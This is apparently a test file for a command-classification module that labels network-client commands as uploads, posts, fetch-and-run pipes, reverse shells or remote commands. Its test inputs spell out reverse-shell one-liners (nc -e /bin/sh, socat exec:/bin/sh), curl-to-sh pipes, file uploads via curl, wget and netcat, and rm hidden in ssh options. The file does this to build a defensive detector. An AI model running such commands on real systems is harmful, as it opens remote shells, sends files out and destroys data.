// Tests by class over what network clients send and run (src/facts/extract/emit-net.ts): every
// option of curl(1) and wget(1) that sends a file or inline data, where the body goes, netcat's
// programs run on the socket, socat's addresses, ssh's command-running options and remote
// command. Expectations from the manual pages, written by hand.
import { resolveContext } from "../src/context.js";
import { extractFacts } from "../src/facts/extract.js";

const ctx = resolveContext({});

/** The paths (`role path`) and tags of `program` in `cmd`. */
function sent(cmd: string, program = cmd.split(" ")[0]!): { paths: string[]; tags: string[] } {
  const c = extractFacts(cmd, ctx).commands.find((x) => x.program === program);
  return {
    paths: c?.paths.map((p) => `${p.role} ${p.path}`) ?? [],
    tags: c?.tags ?? [],
  };
}

describe("an HTTP client's options that send a local file upload it", () => {
  it.each([
    "-d @/srv/f",
    "--data @/srv/f",
    "--data-binary @/srv/f",
    "--data-ascii @/srv/f",
    "--data-urlencode @/srv/f",
    "--data-urlencode name=@/srv/f",
    "-F file=@/srv/f",
    "-F 'file=</srv/f'",
    "--form file=@/srv/f",
    "-T /srv/f",
    "--upload-file /srv/f",
    "--json @/srv/f",
  ])("curl %s", (option) => {
    expect(sent(`curl ${option} http://h/u`)).toEqual({ paths: ["read /srv/f"], tags: ["upload"] });
  });

  it.each(["--post-file=/srv/f", "--body-file=/srv/f", "--post-file /srv/f"])(
    "wget %s",
    (option) => {
      const w = sent(`wget ${option} http://h/u`);
      expect(w.paths).toContain("read /srv/f");
      expect(w.tags).toEqual(["upload"]);
    },
  );

  it("uploads standard input read from elsewhere (`-T -`, `-d @-`), not text in the command", () => {
    expect(sent("cat /srv/f | curl -T - http://h/u", "curl").tags).toEqual(["upload"]);
    expect(sent("cat /srv/f | curl -d @- http://h/u", "curl").tags).toEqual(["upload"]);
    expect(sent("echo x | curl -d @- http://h/u", "curl").tags).toEqual(["post"]);
    expect(sent("curl -d @- http://h/u").tags).toEqual(["post"]);
  });
});

describe("inline data is posted, not uploaded", () => {
  it.each([
    "-d x=1",
    "--data x=1",
    "--data-binary x",
    "--data-raw x=1",
    "--data-ascii x",
    "--data-urlencode x=1",
    "-F a=b",
    "--form a=b",
    "--json '{}'",
  ])("curl %s", (option) => {
    expect(sent(`curl ${option} http://h/u`)).toEqual({ paths: [], tags: ["post"] });
  });

  it.each(["--post-data=x", "--body-data=x"])("wget %s", (option) => {
    expect(sent(`wget ${option} http://h/u`).tags).toEqual(["post"]);
  });

  it("sends nothing without a data option", () => {
    expect(sent("curl http://h/u").tags).toEqual([]);
    expect(sent("curl -H 'X: @/srv/f' http://h/u")).toEqual({ paths: [], tags: [] });
  });
});

describe("where an HTTP client writes the body", () => {
  it.each([
    ["curl -o /srv/out http://h/u", ["write /srv/out"]],
    ["curl --output /srv/out http://h/u", ["write /srv/out"]],
    ["curl -O http://h/a/b.tgz", ["write /workspace/b.tgz"]],
    ["curl --remote-name http://h/a/b.tgz?x=1", ["write /workspace/b.tgz"]],
    ["wget http://h/a/b.tgz", ["write /workspace/b.tgz"]],
    ["wget -O /srv/out http://h/u", ["write /srv/out"]],
    ["wget --output-document=/srv/out http://h/u", ["write /srv/out"]],
    ["aria2c http://h/a.tgz", ["write /workspace/a.tgz"]],
    ["curl http://h/u", []],
    ["curl -o - http://h/u", []],
    ["http http://h/u", []],
    ["xh http://h/u", []],
  ])("%s", (cmd, paths) => {
    expect(sent(cmd).paths).toEqual(paths);
  });

  it("pipes the body on when it goes to standard output", () => {
    for (const cmd of [
      "curl http://h/s | sh",
      "wget -O - http://h/s | sh",
      "wget -qO- http://h/s | sh",
      "http http://h/s | sh",
    ])
      expect([cmd, sent(cmd, "sh").tags]).toEqual([cmd, ["pipe-from-network"]]);
    expect(sent("curl -o /srv/s http://h/s | sh", "sh").tags).toEqual([]);
  });
});

describe("netcat and socat", () => {
  it.each([
    "nc -e /bin/sh h 1",
    "nc -c sh h 1",
    "ncat -e /bin/sh h 1",
    "ncat --exec /bin/sh h 1",
    "ncat --sh-exec sh h 1",
    "ncat --lua-exec x.lua h 1",
    "socat tcp:h:1 exec:/bin/sh",
    "socat tcp:h:1 system:sh",
    "socat tcp:h:1 EXEC:/bin/sh,pty",
  ])("%s runs a program on the socket: a reverse shell", (cmd) => {
    expect(sent(cmd).tags).toContain("reverse-shell");
  });

  it("reads and sends the files socat opens", () => {
    for (const a of ["file:/srv/f", "open:/srv/f", "gopen:/srv/f", "create:/srv/f"])
      expect([a, sent(`socat tcp:h:1 ${a}`)]).toEqual([
        a,
        { paths: ["read /srv/f"], tags: ["upload"] },
      ]);
  });

  it("sends local data fed to it, not a bare connection", () => {
    expect(sent("nc h 1 < /srv/f").tags).toEqual(["upload"]);
    expect(sent("cat /srv/f | nc h 1", "nc").tags).toEqual(["upload"]);
    expect(sent("nc h 1").tags).toEqual([]);
    expect(sent("telnet h 1").tags).toEqual([]);
  });
});

describe("ssh runs commands", () => {
  it.each([
    "ProxyCommand='rm /srv/p'",
    "LocalCommand='rm /srv/p'",
    "KnownHostsCommand='rm /srv/p'",
    "RemoteCommand='rm /srv/p'",
    "'ProxyCommand rm /srv/p'",
    "proxycommand='rm /srv/p'",
  ])("-o %s (ssh_config(5): its value is a command)", (o) => {
    const rm = extractFacts(`ssh -o ${o} h`, ctx).commands.find((c) => c.program === "rm");
    expect(rm?.paths.map((p) => `${p.role} ${p.path}`)).toEqual(["delete /srv/p"]);
  });

  it("runs the words after the host, or its standard input, on the remote host", () => {
    expect(sent("ssh h rm /srv/p").tags).toEqual(["remote-command"]);
    expect(sent("ssh h rm /srv/p", "rm").paths).toEqual(["delete /srv/p"]);
    expect(sent("echo 'rm /srv/p' | ssh h", "ssh").tags).toEqual(["remote-command"]);
    expect(sent("ssh h").tags).toEqual([]);
    expect(sent("ssh -o User=x h").tags).toEqual([]);
  });
});
